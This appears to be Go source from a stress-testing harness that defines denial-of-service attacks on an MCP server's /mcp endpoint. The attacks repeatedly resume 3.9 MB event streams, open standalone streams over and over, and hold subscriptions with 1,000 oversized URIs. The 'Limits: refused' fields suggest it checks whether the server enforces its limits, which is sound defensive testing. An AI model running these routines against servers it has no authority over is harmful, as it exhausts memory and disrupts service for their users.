package greed

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"
)

var ask39 = sync.OnceValue(func() []byte { return tool(1, "ask_once", `{"question":"`+long(3_900_000)+`"}`) })

// firstID calls for a stream that holds 3.9 MB and returns the id of its first event, "" if it was
// refused. It reads the stream to the end of its first large event, so that that is stored.
func (p *Principal) firstID(h http.Header) string {
	ctx, cancel := context.WithTimeout(p.ctx, patience)
	defer cancel()
	resp := p.begin(ctx, http.MethodPost, "/mcp", h, ask39())
	if resp == nil {
		return ""
	}
	defer func() { _ = resp.Body.Close() }()
	if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/event-stream") {
		b, _ := io.ReadAll(io.LimitReader(resp.Body, kept))
		p.note(outcome(resp.StatusCode, b))
		return ""
	}
	rd, id := bufio.NewReaderSize(resp.Body, 64<<10), ""
	for size := 0; size < 3_900_000; {
		line, err := rd.ReadSlice('\n')
		if size += len(line); err != nil && err != bufio.ErrBufferFull {
			p.note("broken")
			return ""
		}
		if v, ok := strings.CutPrefix(string(line[:min(len(line), 200)]), "id: "); ok && id == "" {
			id = strings.TrimSpace(v)
		}
	}
	p.note("stored")
	// The call need not wait for an answer to its question, with its body in memory.
	p.post(h, []byte(`{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}}`))
	return id
}

var resumes = Attack{
	Name: "resumes", What: "resume streams of 3.9 MB from their beginning, over and over",
	workers: 16, // a slow machine does not get to their rate
	begin:   resuming(func(p *Principal, h http.Header) { p.glimpse(h, 256<<10) }),
}

// resuming is the begin of an attack whose goroutines each have a session with a stream of 3.9 MB. step gets the
// header that resumes it.
func resuming(step func(p *Principal, h http.Header)) func(*Principal, int) func() {
	return func(p *Principal, _ int) func() {
		p.storing.Lock()
		defer p.storing.Unlock()
		h := p.session(revision)
		if h == nil {
			return nil
		}
		id := p.firstID(h)
		if id == "" {
			p.pause(time.Second)
			return nil
		}
		h["Last-Event-Id"] = []string{id}
		return func() { step(p, h) }
	}
}

// glimpse opens a stream with a GET, reads so many bytes of it, and leaves.
func (p *Principal) glimpse(h http.Header, bytes int64) {
	ctx, cancel := context.WithTimeout(p.ctx, patience)
	defer cancel()
	resp := p.begin(ctx, http.MethodGet, "/mcp", h, nil)
	if resp == nil {
		return
	}
	defer func() { _ = resp.Body.Close() }()
	if bytes > 0 || resp.StatusCode != http.StatusOK {
		_, _ = io.CopyN(io.Discard, resp.Body, max(bytes, 1))
	}
	p.note(fmt.Sprint(resp.StatusCode))
}

var standalones = Attack{
	Name: "standalones", What: "open the standalone stream of a session over and over",
	Limits: refused, Rated: true, workers: 32,
	begin: stateful(revision, func(p *Principal, h map[string][]string, _ int) { p.glimpse(h, 0) }),
}

var listen1000 = sync.OnceValues(func() ([]byte, http.Header) {
	var b strings.Builder
	for i := range 1000 {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `"test://template/%04d%s/data"`, i, long(4060))
	}
	return stateless(1, "subscriptions/listen", "", `"notifications":{"resourceSubscriptions":[`+b.String()+`]}`, "")
})

var listens = Attack{
	Name: "listens", What: "hold subscriptions/listen with 1,000 URIs of 4 KiB",
	Limits: refused, workers: 64,
	begin: free(func(p *Principal, _ int) {
		body, h := listen1000()
		ctx, cancel := context.WithCancel(p.ctx)
		defer cancel()
		resp := p.begin(ctx, http.MethodPost, "/mcp", h, body)
		if resp == nil {
			return
		}
		defer func() { _ = resp.Body.Close() }()
		p.note(fmt.Sprint(resp.StatusCode))
		if resp.StatusCode == http.StatusOK {
			_, _ = io.Copy(io.Discard, resp.Body)
			p.note("closed")
			p.pause(10 * time.Millisecond)
		}
	}),
}
